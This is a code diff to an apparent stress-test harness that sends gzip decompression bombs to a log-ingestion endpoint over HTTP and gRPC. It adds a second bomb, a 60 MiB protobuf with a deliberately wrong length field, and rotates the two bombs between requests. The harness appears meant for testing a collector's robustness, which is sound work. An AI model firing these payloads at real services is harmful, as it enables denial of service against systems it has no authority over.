@@ -20,6 +20,7 @@ import threading
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
 from functools import cache
+from itertools import cycle
 
 import hpack
 
@@ -58,23 +59,31 @@ def _call(stream: int, **fields: str) -> bytes:
 
 
 @cache
-def _bomb() -> bytes:
-    return gzip.compress(bytes(60 * 1024 * 1024), 9)  # 60 KiB
+def _bombs() -> list[bytes]:
+    """60 KiB that become 60 MiB: of nothing, and of a request that ends too early."""
+    size = 60 * 1024 * 1024
+    text = b"x" * size
+    for tag in (b"\x0a", b"\x2a", b"\x12", b"\x12", b"\x0a"):  # value, body, record, scope, resource
+        text = tag + _varint(len(text) + (tag == b"\x2a")) + text
+    return [gzip.compress(bytes(size), 9), gzip.compress(text, 9)]
 
 
 def bombs_http(endpoint: str, stop: threading.Event) -> int:
     """Small bodies that inflate a thousandfold."""
     head = b"POST /v1/logs HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-protobuf\r\nContent-Encoding: gzip\r\n"
-    request = head + b"Content-Length: %d\r\n\r\n" % len(_bomb()) + _bomb()
-    return _again(endpoint, stop, lambda peer: _exchange(peer, request), pause_s=0.3)
+    requests = cycle([head + b"Content-Length: %d\r\n\r\n" % len(bomb) + bomb for bomb in _bombs()])
+    return _again(endpoint, stop, lambda peer: _exchange(peer, next(requests)), pause_s=0.3)
 
 
 def bombs_grpc(endpoint: str, stop: threading.Event) -> int:
     """The same over gRPC."""
-    framed = b"\1" + len(_bomb()).to_bytes(4, "big") + _bomb()
-    data = b"".join(_frame(0, 0, 1, framed[at : at + 16384]) for at in range(0, len(framed), 16384))
-    request = _PREFACE + _call(1, grpc_encoding="gzip") + data + _frame(0, 1, 1)
-    return _again(endpoint, stop, lambda peer: _exchange(peer, request), pause_s=0.3)
+    requests = []
+    for bomb in _bombs():
+        framed = b"\1" + len(bomb).to_bytes(4, "big") + bomb
+        data = b"".join(_frame(0, 0, 1, framed[at : at + 16384]) for at in range(0, len(framed), 16384))
+        requests.append(_PREFACE + _call(1, grpc_encoding="gzip") + data + _frame(0, 1, 1))
+    turns = cycle(requests)
+    return _again(endpoint, stop, lambda peer: _exchange(peer, next(turns)), pause_s=0.3)
 
 
 def slow_http(endpoint: str, stop: threading.Event) -> int:
@@ -228,7 +237,7 @@ def main() -> None:
     os.nice(19)
     grpc, http = sys.argv[1:]
     attacks = [(attack, grpc) for attack in GRPC] + [(attack, http) for attack in HTTP]
-    _bomb()
+    _bombs()
     while sys.stdin.readline():
         stop = threading.Event()
         with ThreadPoolExecutor(len(attacks)) as pool:
